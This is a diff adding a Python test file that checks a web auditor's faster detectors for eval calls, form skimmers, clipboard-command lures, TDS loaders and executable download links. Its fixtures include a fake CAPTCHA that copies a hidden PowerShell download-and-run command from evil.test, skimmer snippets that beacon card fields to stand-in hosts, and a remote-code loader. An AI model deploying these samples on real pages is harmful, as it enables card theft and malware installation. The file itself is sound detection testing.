@@ -1,0 +1,145 @@
+"""The speed-ups of the behaviour heuristics answer as the paths they replaced: each fast
+path is checked against the plain reading it stands for (revc review, 2026-12)."""
+
+from __future__ import annotations
+
+import re
+
+import pytest
+from hypothesis import given, settings
+from hypothesis import strategies as st
+
+from auditor.heuristics import behaviour
+from tests.heuristics.conftest import AuditHtml
+
+# --- eval calls: `_eval_calls` is `_EVAL.finditer`, tried only where a call can start ---
+
+_EVAL_PIECES = ["eval", "Function", "new", " ", "\t", "\u3000", "(", ")", "[", "]", "'", '"', "r",
+                ".responseText", "$", "é", "medieval", "newFunction", " " * 300, "a" * 300]
+
+
+@pytest.mark.parametrize("text", [
+    "new" + " " * 20 + "Function(x.responseText)",  # spaces past any window before the word
+    "[" + " " * 20 + "'eval'](r)",
+    "eval(" + " " * 300 + "r)",  # and after it
+    "eval(" + "a" * 300 + ")",
+    "eval(evaluate) eval(x.response)",
+    "f['eval'](r); new\u3000Function(s)",
+])
+def test_eval_calls_are_finditer(text: str) -> None:
+    spans = [(m.span(), m.groups()) for m in behaviour._eval_calls(text)]
+    assert spans == [(m.span(), m.groups()) for m in behaviour._EVAL.finditer(text)]
+    assert spans
+
+
+@settings(max_examples=300, deadline=None)
+@given(st.lists(st.sampled_from(_EVAL_PIECES), max_size=25))
+def test_eval_calls_are_finditer_on_any_text(pieces: list[str]) -> None:
+    text = "".join(pieces)
+    assert [m.span() for m in behaviour._eval_calls(text)] == [
+        m.span() for m in behaviour._EVAL.finditer(text)]
+
+
+# --- form skimmers: a send's window is read as the window alone ---------------------------
+
+def _window_reading(text: str) -> list[tuple[str, str, bool]]:
+    """What each send's window holds, searched in the window's own slice (the reading the
+    joined-window pass replaced), with the whole text's pre-check it had."""
+    if not behaviour._READS_FIELDS.search(text) or not (
+            behaviour._CARD_WORDS.search(text) or behaviour._HARVESTS.search(text)):
+        return []
+    last_send, found = text.rfind(".send("), []
+    for pattern, how in behaviour._CHANNELS:
+        for m in pattern.finditer(text):
+            if pattern is behaviour._SOCKET and last_send < m.end():
+                continue
+            near = text[max(0, m.start() - behaviour.SKIM_WINDOW): m.end() + behaviour.SKIM_WINDOW]
+            card = behaviour._CARD_WORDS.search(near) is not None
+            if behaviour._READS_FIELDS.search(near) and (
+                    card or (how != "a POST" and behaviour._HARVESTS.search(near))):
+                found.append((m.group(2), how, card))
+    return found
+
+
+def _joined_reading(text: str) -> list[tuple[str, str, bool]]:
+    last_send = text.rfind(".send(")
+    sends = [(m, how) for pattern, how in behaviour._CHANNELS for m in pattern.finditer(text)
+             if pattern is not behaviour._SOCKET or last_send >= m.end()]
+    spans = behaviour._signals_near(text, [m for m, _ in sends])
+    found = []
+    for m, how in sends:
+        start, end = max(0, m.start() - behaviour.SKIM_WINDOW), m.end() + behaviour.SKIM_WINDOW
+        card = behaviour._near(text, spans[1], 1, start, end)
+        if behaviour._near(text, spans[0], 0, start, end) and (
+                card or (how != "a POST" and behaviour._near(text, spans[2], 2, start, end))):
+            found.append((m.group(2), how, card))
+    if found and not (behaviour._READS_FIELDS.search(text) and (
+            behaviour._CARD_WORDS.search(text) or behaviour._HARVESTS.search(text))):
+        return []
+    return found
+
+
+_SKIM_PIECES = [".value", ".values", "x.value = 1", "cvv", "xcvv", "card_number",
+                'querySelectorAll("form input")', "new FormData(", ".elements", "['password']",
+                'navigator.sendBeacon("https://s.test/c",', 'i.src="//s.test/p?"+',
+                'new WebSocket("wss://s.test/w")', ".send(", 'fetch("https://s.test/f")',
+                'x.open("POST","https://s.test/x")', " ", ";", "a" * 790, "x" * 800, ";" * 1600]
+
+
+@settings(max_examples=400, deadline=None)
+@given(st.lists(st.sampled_from(_SKIM_PIECES), max_size=14))
+def test_skim_windows_read_as_alone(pieces: list[str]) -> None:
+    text = "".join(pieces)
+    assert _joined_reading(text) == _window_reading(text)
+
+
+@pytest.mark.parametrize("text", [
+    'new WebSocket("wss://s.test/w").send(x.value+cvv)',  # a socket's own .send( counts
+    "cvv" + ";" * 1600 + 'i.src="//s.test/p?"+x.value',
+    "x" * 3000 + 'var n=q("#cc").value;navigator.sendBeacon("https://s.test/c", n+cvv);',
+])
+def test_skim_windows_table(text: str) -> None:
+    assert _joined_reading(text) == _window_reading(text)
+
+
+def test_a_skimmer_far_into_its_script_is_found(audit_html: AuditHtml) -> None:
+    """The joined windows' spans are the text's own offsets: a send 4 KB into a script
+    was read against spans shifted by its window's start, and missed."""
+    page = ('<html><body><form><input id=cc name=cc></form><script>' + "var pad=1;" * 400
+            + 'var n=document.querySelector("#cc").value;'
+            'navigator.sendBeacon("https://skim.test/c", n+"cvv");</script></body></html>')
+    assert [f.kind for f in audit_html(page).findings] == ["form-skimmer"]
+
+
+# --- the words a heuristic asks the page for -----------------------------------------------
+
+def test_a_handler_written_with_references_holds_its_words(audit_html: AuditHtml) -> None:
+    """A handler's code is its attribute's value read: `&#99;lipboard` is `clipboard`
+    to the script though not in the markup."""
+    cmd = "powershell -w hidden -c iex(iwr http://evil.test/a.ps1)"
+    page = ('<html><body><p>Verify you are human</p><button onclick="navigator.&#99;lipboard'
+            f".writeText('{cmd}')\">I am not a robot</button></body></html>")
+    assert [f.kind for f in audit_html(page).findings] == ["clipboard-command"]
+
+
+def test_tds_eval_after_many_spaces(audit_html: AuditHtml) -> None:
+    page = ('<html><body><script>var x=new XMLHttpRequest();x.open("GET","https://tds.test/g?r="'
+            '+document.referrer);x.onload=function(){new' + " " * 20
+            + 'Function(x.responseText)()};x.send();</script></body></html>')
+    assert [f.kind for f in audit_html(page).findings] == ["tds-loader"]
+
+
+# --- RE2 patterns read as the `re` ones they replaced ----------------------------------------
+
+_OLD_PROGRAM_HREF = re.compile(
+    rb"""href\s*=\s*["']?[^"'\s>]{0,2000}?\.(?:exe|msi|msix|appx|zip|rar|7z|js|jse|vbs|vbe"""
+    rb"""|wsf|hta|scr|bat|cmd|ps1|lnk|iso|img|apk|dmg|pkg)(?:["'\s>?#]|$)""")
+
+
+@pytest.mark.parametrize("markup", [
+    *(b"<a href='" + b"a" * n + b".exe'>" for n in (1999, 2000, 2001, 2100)),
+    b"<a href\x0b=x.exe>", b"<a href=\x0bx.exe>", b"<a href='a\x0bb.exe'>", b"href=x.exe\n",
+    b"<a href=/get/setup.msi?x=1>", b"<a href='/a.json'>",
+])
+def test_program_href_is_the_re_pattern(markup: bytes) -> None:
+    assert bool(behaviour._PROGRAM_HREF.search(markup)) == bool(_OLD_PROGRAM_HREF.search(markup))
